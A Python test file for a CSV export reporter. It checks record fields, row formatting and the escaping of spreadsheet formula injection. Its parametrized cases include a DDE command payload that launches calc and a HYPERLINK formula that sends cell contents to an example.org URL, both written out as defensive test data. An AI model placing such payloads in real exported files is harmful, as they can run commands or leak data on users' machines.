"""Records as CSV: a spreadsheet shows every cell, and computes none."""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.reporters.conftest import ANY_HISTORY, make_record, small_history

from whygate.reporters.csv_ import HEAD, render_csv

if TYPE_CHECKING:
    from whygate.audit.record import Record

SIGNS = ("=", "+", "-", "@")


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def title_of(record: Record, *, raw: bool = False) -> str:
    row = rows_of("".join(render_csv([record], raw=raw)))[1]
    return row[HEAD.index("title")]


def test_row_holds_what_a_record_says() -> None:
    record = make_record(
        7,
        "exempt",
        reason="internal",
        answers=(("problem", "Why"), ("outcome", "Goal")),
        forms=("section", "trailer"),
        rules=(("WG101", "error"), ("WG104", "warning")),
        area="src",
        url="https://example.org/7",
    )
    head, row = rows_of("".join(render_csv([record])))

    assert dict(zip(head, row, strict=True)) == {
        "id": "#7",
        "sha": f"{7:040x}",
        "date": "2026-03-01",
        "kind": "feature",
        "state": "exempt",
        "reason": "internal",
        "blind": "no",
        "title": "change 7",
        "fields": "problem; outcome",
        "labels": "Why; Goal",
        "forms": "section; trailer",
        "rules": "WG101 error; WG104 warning",
        "area": "src",
        "author": "Ada <ada@example.org>",
        "url": "https://example.org/7",
        "by_agent": "no",
    }


def test_bytes_of_a_row_are_stable() -> None:
    lines = list(render_csv([make_record(1, title='a, "b"', day=None, author="")]))

    assert lines == [
        "id,sha,date,kind,state,reason,blind,title,fields,labels,forms,rules,area,author,url,by_agent\n",
        f'#1,{1:040x},,feature,missing,,no,"a, ""b""",,,,,,,,no\n',
    ]


def test_head_comes_without_records() -> None:
    assert rows_of("".join(render_csv([]))) == [list(HEAD)]


def test_row_of_a_blind_change_says_so() -> None:
    row = rows_of("".join(render_csv([make_record(7, "blind")])))[1]

    assert row[HEAD.index("state")] == "blind"
    assert row[HEAD.index("blind")] == "yes"


def test_records_are_read_one_at_a_time() -> None:
    left = iter(small_history())
    rows = render_csv(left)
    next(rows)
    next(rows)

    assert next(left).identity == "#8"


@pytest.mark.parametrize(
    ("title", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ('=cmd|" /C calc"!A0', '\'=cmd|" /C calc"!A0'),
        ('=HYPERLINK("https://example.org?"&A1)', '\'=HYPERLINK("https://example.org?"&A1)'),
        ("\t=1", "' =1"),
        ("\tword", "' word"),
        ("\rword", "'<U+000D>word"),
        ("\r\n=1", "' =1"),
        ("  =1", "'  =1"),
        ("\n=1", "' =1"),
        ("\xa0=1", "'\xa0=1"),
        ("\x1c=1", "'<U+001C>=1"),
        ("\ufeff=1", "<U+FEFF>=1"),
        ("'=1", "'=1"),
        ("1=1", "1=1"),
        ("a -b", "a -b"),
        ("a\nb\u2028c", "a b<U+2028>c"),
        ("", ""),
    ],
    ids=repr,
)
def test_cell_is_no_formula(title: str, shown: str) -> None:
    assert title_of(make_record(title=title)) == shown


@pytest.mark.parametrize("title", ["=1+1", "\tword", "a\nb", 'a "b", c', "a\x1bb"], ids=repr)
def test_raw_cell_is_as_it_was_written(title: str) -> None:
    assert title_of(make_record(title=title), raw=True) == title


@settings(max_examples=100, deadline=None)
@given(ANY_HISTORY)
def test_every_record_is_one_line_and_no_formula(history: list[Record]) -> None:
    text = "".join(render_csv(history))
    rows = rows_of(text)

    assert [len(row) for row in rows] == [len(HEAD)] * (len(history) + 1)
    assert text.count("\n") == len(rows)
    assert not [cell for row in rows for cell in row if cell.lstrip().startswith(SIGNS)]


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=12), st.sampled_from(["", *SIGNS]))
def test_any_text_is_no_formula(text: str, sign: str) -> None:
    shown = title_of(make_record(title=text + sign))

    assert not shown.lstrip().startswith(SIGNS)
    assert not shown.startswith(("\t", "\r"))
